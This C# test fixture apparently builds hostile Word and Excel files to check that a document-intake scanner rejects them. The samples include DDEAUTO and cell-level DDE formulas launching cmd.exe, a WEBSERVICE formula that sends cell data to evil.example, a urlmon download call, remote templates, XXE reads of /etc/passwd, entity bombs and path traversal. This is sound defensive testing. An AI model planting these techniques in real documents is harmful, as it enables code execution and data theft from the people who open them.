using static Governance.Tests.Records.Intake.MadeOffice;

namespace Governance.Tests.Records.Intake;

internal static class HostileOffice
{
    private const string Vba = "application/vnd.ms-office.vbaProject";
    private const string Ole = "application/vnd.openxmlformats-officedocument.oleObject";

    private static readonly byte[] Compound = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];

    public static IReadOnlyList<HostileFile> All { get; } =
    [
        InWord("macros", "DOC-010", () => Word(types: $"<Default Extension=\"bin\" ContentType=\"{Vba}\"/>").Add("word/vbaProject.bin", Compound)),
        InWord("macros under another name", "DOC-010", () => Word(types: $"<Override PartName=\"/word/settings2.bin\" ContentType=\"{Vba}\"/>").Add("word/settings2.bin", Compound)),
        InWord("macros by their relation only", "DOC-010", () => Word(links: "<Relationship Id=\"rId5\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"a.bin\"/>").Add("word/a.bin", "x")),
        InWord("a document for macros called one without", "DOC-010", () => Word().With("[Content_Types].xml", t => t.Replace("vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal))),
        InWord("a control", "DOC-010", () => Word(types: "<Override PartName=\"/word/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>").Add("word/activeX/activeX1.xml", "<x/>")),
        InWord("buttons of its own", "DOC-010", () => Word().Add("customUI/customUI14.xml", "<customUI/>")),
        InWord("an add-in from the web", "DOC-010", () => Word().Add("word/webextensions/taskpanes.xml", "<x/>")),
        InWord("an object of another program", "DOC-011", () => Word(types: $"<Default Extension=\"bin\" ContentType=\"{Ole}\"/>").Add("word/embeddings/oleObject1.bin", Compound)),
        InWord("an object of another program elsewhere", "DOC-011", () => Word().Add("word/media/image1.png", Compound)),
        InWord("an object in its text", "DOC-011", () => Word("<w:p><w:r><w:object/></w:r></w:p>")),
        InWord("a workbook in it", "DOC-011", () => Word().Add("word/embeddings/Microsoft_Excel_Sheet1.xlsx", Excel().Bytes())),
        InWord("a piece of HTML in it", "DOC-011", () => Word("<w:altChunk r:id=\"rId9\"/>", links: Link("aFChunk", "a.html", outside: false)).Add("word/a.html", "hej")),
        InWord("a template on the web", "DOC-012", () => Word().Add("word/_rels/settings.xml.rels", Relation(Link("attachedTemplate", "https://evil.example/a.dotm"))).Add("word/settings.xml", $"<w:settings {WordNames}/>")),
        InWord("a template on a server", "DOC-012", () => Word(links: Link("attachedTemplate", "file:///\\\\evil\\a.dotm"))),
        InWord("a template on a server, written with slashes", "DOC-012", () => Word(links: Link("attachedTemplate", "file://evil/a.dotm"))),
        InWord("a picture on the web", "DOC-012", () => Word(links: Link("image", "http://evil.example/track.png"))),
        InWord("an object on the web", "DOC-011", () => Word(links: Link("oleObject", "http://evil.example/a.html!"))),
        InWord("a picture of the old kind on the web", "DOC-012", () => Word("<w:p><w:r><w:pict><v:shape><v:imagedata src=\"http://evil.example/a.png\"/></v:shape></w:pict></w:r></w:p>")),
        InWord("recipients in a database", "DOC-012", () => Word(links: Link("mailMergeSource", "file:///C:/a.mdb"))),
        InWord("a link that is a script", "DOC-010", () => Word(links: Link("hyperlink", "java\nscript:alert(1)".Replace("\n", "&#10;", StringComparison.Ordinal)))),
        InWord("a relation out of the package", "DOC-014", () => Word(links: Link("image", "../../../../etc/passwd", outside: false))),
        InWord("DDE", "DOC-010", () => Word(Field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "))),
        InWord("DDE cut into pieces", "DOC-010", () => Word(Field(" D", "DEA", "UTO c:\\\\cmd.exe"))),
        InWord("DDE in small letters and quotes", "DOC-010", () => Word(Field(" \"ddeauto\" c:\\\\cmd.exe"))),
        InWord("DDE in a simple field", "DOC-010", () => Word("<w:p><w:fldSimple w:instr=\" DDE cmd x \"/></w:p>")),
        InWord("DDE put together by another field", "DOC-010", () => Word("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + Field(" QUOTE 68 68 69 65 85 84 79 ") + "<w:r><w:instrText> c:\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")),
        InWord("DDE in a page head", "DOC-010", () => Word().Add("word/header1.xml", $"<w:hdr {WordNames}>{Field("DDEAUTO cmd")}</w:hdr>")),
        InWord("DDE in a field that never ends", "DOC-010", () => Word("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>")),
        InWord("a text fetched from the web", "DOC-012", () => Word(Field(" INCLUDETEXT \"http://evil.example/a.docx\" "))),
        InWord("a picture fetched from the web", "DOC-012", () => Word(Field(" INCLUDEPICTURE \"http://evil.example/a.png\" \\d "))),
        InWord("a link to an object", "DOC-012", () => Word(Field(" LINK Excel.Sheet.12 \"\\\\\\\\evil\\\\a.xlsx\" "))),
        InWord("a billion laughs", "DOC-008", () => Word().With("word/document.xml", "<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">&b;</w:document>")),
        InWord("an entity from a file", "DOC-008", () => Word().Add("word/styles.xml", "<!DOCTYPE d [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>")),
        InWord("a definition of types in its relations", "DOC-008", () => Word().With("_rels/.rels", t => t.Replace("<Relationships", "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><Relationships", StringComparison.Ordinal))),
        InWord("XML that nobody can nest", "DOC-008", () => Word(string.Concat(Enumerable.Repeat("<w:p>", 500)) + string.Concat(Enumerable.Repeat("</w:p>", 500)))),
        InWord("XML that does not end", "DOC-008", () => Word().With("word/document.xml", "<w:document xmlns:w=\"x\"><w:body>")),
        InWord("no main part", "DOC-008", () => Word().With("_rels/.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>")),
        InWord("another root than a document's", "DOC-008", () => Word().With("word/document.xml", "<x/>")),
        InWord("XML under another extension", "DOC-014", () => Word(types: "<Override PartName=\"/word/document.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>").Add("word/document.bin", "<x/>")),
        InWord("two main parts of two kinds", "DOC-014", () => Word(types: "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>")),
        InWord("a template", "DOC-004", () => Word().With("[Content_Types].xml", t => t.Replace("document.main+xml", "template.main+xml", StringComparison.Ordinal))),
        InWord("a workbook called a document", "DOC-006", () => Excel()),
        new("a document called a workbook", "budget.xlsx", () => Word().Bytes(), "DOC-006"),
        new("an old document", "protokoll.doc", () => Compound, "DOC-004"),
        new("a document with a password", "protokoll.docx", () => [.. Compound, .. System.Text.Encoding.Unicode.GetBytes("EncryptedPackage"), .. new byte[480]], "DOC-009"),
        InExcel("macros", "DOC-010", () => Excel(types: $"<Default Extension=\"bin\" ContentType=\"{Vba}\"/>").Add("xl/vbaProject.bin", Compound)),
        InExcel("macros of the oldest kind", "DOC-010", () => Excel(types: "<Override PartName=\"/xl/m.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>").Add("xl/m.xml", "<x/>")),
        InExcel("a macro sheet in its folder", "DOC-010", () => Excel().Add("xl/macrosheets/sheet1.xml", "<x/>")),
        InExcel("DDE in a cell", "DOC-010", () => Excel("<c r=\"A1\"><f>cmd|'/C calc'!A0</f></c>")),
        InExcel("DDE behind other signs", "DOC-010", () => Excel("<c r=\"A1\"><f>-2+3+cmd |'/C calc'!A0</f></c>")),
        InExcel("DDE in a name", "DOC-010", () => Excel(book: "<definedNames><definedName name=\"x\">MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''</definedName></definedNames>")),
        InExcel("a link by DDE", "DOC-010", () => Excel().Add("xl/a.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>")),
        InExcel("cells of another file", "DOC-012", () => Excel(types: "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml\"/>")),
        InExcel("cells of another file by their relation", "DOC-012", () => Excel(links: Link("externalLink", "externalLinks/a.xml", outside: false))),
        InExcel("a database", "DOC-012", () => Excel(types: "<Override PartName=\"/xl/connections.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml\"/>").Add("xl/connections.xml", "<x/>")),
        InExcel("a formula that asks the web", "DOC-012", () => Excel("<c r=\"A1\"><f>_xlfn.WEBSERVICE(\"http://evil.example/?\"&amp;A2)</f></c>")),
        InExcel("a formula that calls a library", "DOC-010", () => Excel(book: "<definedNames><definedName name=\"x\">CALL(\"urlmon\",\"URLDownloadToFileA\")</definedName></definedNames>")),
        InExcel("an object in a sheet", "DOC-011", () => Excel().With("xl/worksheets/sheet1.xml", "<worksheet><oleObjects/></worksheet>")),
    ];

    private static string Relation(string links) => $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{links}</Relationships>";

    private static HostileFile InWord(string why, string code, Func<RawZip> make) => new(why, "protokoll.docx", () => make().Bytes(), code);

    private static HostileFile InExcel(string why, string code, Func<RawZip> make) => new(why, "budget.xlsx", () => make().Bytes(), code);
}
